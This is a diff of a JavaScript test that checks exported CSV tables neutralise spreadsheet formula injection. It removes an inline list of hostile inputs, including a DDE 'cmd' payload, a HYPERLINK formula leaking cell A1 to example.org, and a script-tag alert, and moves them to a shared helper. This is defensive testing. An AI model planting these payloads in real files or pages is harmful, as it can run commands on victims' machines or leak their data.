@@ -1,76 +1,19 @@
 // Goal: whatever people write into titles, labels, leads and comments, no cell of any table is one that a spreadsheet would run, and every text reads
 // back as it was by the documented rule.
 import assert from 'node:assert/strict';
-import { readFileSync, writeFileSync } from 'node:fs';
+import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { after, before, test } from 'node:test';
 import { parseCsv } from './lib/csv.mjs';
-import { keepAlive } from './lib/http.mjs';
-import { examplePanel, ROUND } from './lib/panel.mjs';
+import { HOSTILE as TEXTS, readyHostile } from './lib/hostile.mjs';
+import { ROUND } from './lib/panel.mjs';
 import { poll } from './lib/poll.mjs';
-import { Collector, freshFolder } from './lib/programs.mjs';
-import { enrolAll, get, makeToken, sendAll, tablePath, unguard } from './lib/reading.mjs';
+import { get, makeToken, tablePath, unguard } from './lib/reading.mjs';
 
-const TEXTS = [
-  '=1+1',
-  '=cmd|\'/C calc\'!A0',
-  '=HYPERLINK("http://example.org/?"&A1,"klik")',
-  '+31 70 123 45 67',
-  '-2+3',
-  '-',
-  '@SUM(A1:A9)',
-  '\t=1+1',
-  '\r\n=1+1',
-  '"=1+1"',
-  'zij zei: "ja"',
-  'a,b;c|d',
-  'een\nregel\r\nen een',
-  '\u202e=1+1 (rechts naar links)',
-  '\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd',
-  '\u{1f3db}\ufe0f\u{10348}\u{2070e}',
-  'caf\u00e9 en cafe\u0301',
-  '\ufeff=1+1',
-  '<script>alert(1)</script>',
-  '%s%n\\0 \\" \u2028',
-  "'s ochtends",
-];
-
-const quote = (text) => `"${text.replaceAll('"', '""')}"`;
-const actionsCsv = () =>
-  `id,title,track,lead,related,status\n${TEXTS.map((t, i) => `H-${i},${[t, t, t, t].map(quote).join(',')},running`).join('\n')}\n`;
-
-let collector, token, texts;
+const texts = Object.fromEntries(TEXTS.map((text, i) => [`H-${i}`, text]));
+let collector, token;
 before(async () => {
-  const panel = examplePanel();
-  panel.title.nl = TEXTS[0];
-  panel.disclosure = { minRespondents: 1, roundTo: 1 };
-  const [questionnaire] = panel.questionnaires;
-  questionnaire.questions[0].min = -2;
-  questionnaire.questions[0].max = 2;
-  for (const [i, question] of questionnaire.questions.entries()) {
-    question.label = { nl: TEXTS[i], en: TEXTS[i + 3] };
-    for (const [o, option] of (question.options ?? []).entries()) option.label = { nl: TEXTS[o], en: TEXTS[o + 5] };
-  }
-  questionnaire.questions[1].options[0].value = '-1';
-  questionnaire.questions[2].when.equals = '-1';
-  panel.rounds[0].title = { nl: TEXTS[2] };
-  collector = new Collector(freshFolder('reading-hostile'));
-  await collector.importPanel(panel);
-  const path = join(collector.folder, 'actions.csv');
-  writeFileSync(path, actionsCsv());
-  await collector.importActions(path);
-  collector.codes = await collector.invitations(2);
-  await collector.start();
-  const agent = keepAlive();
-  const members = await enrolAll(collector, agent);
-  const signed = members.flatMap((member, m) =>
-    TEXTS.map((text, i) =>
-      member.response(ROUND, `H-${i}`, { importance: m === 0 ? -2 : 1, noticed: 'no', comment: text }),
-    ),
-  );
-  await sendAll(collector, signed, agent);
-  agent.destroy();
-  texts = Object.fromEntries(TEXTS.map((text, i) => [`H-${i}`, text]));
+  collector = await readyHostile('reading-hostile');
   token = await makeToken(collector, 'programme', 'team', '--exact');
   await poll('the token to be known', 5, async () => (await get(collector, tablePath('summary'), token)).status === 200);
 });
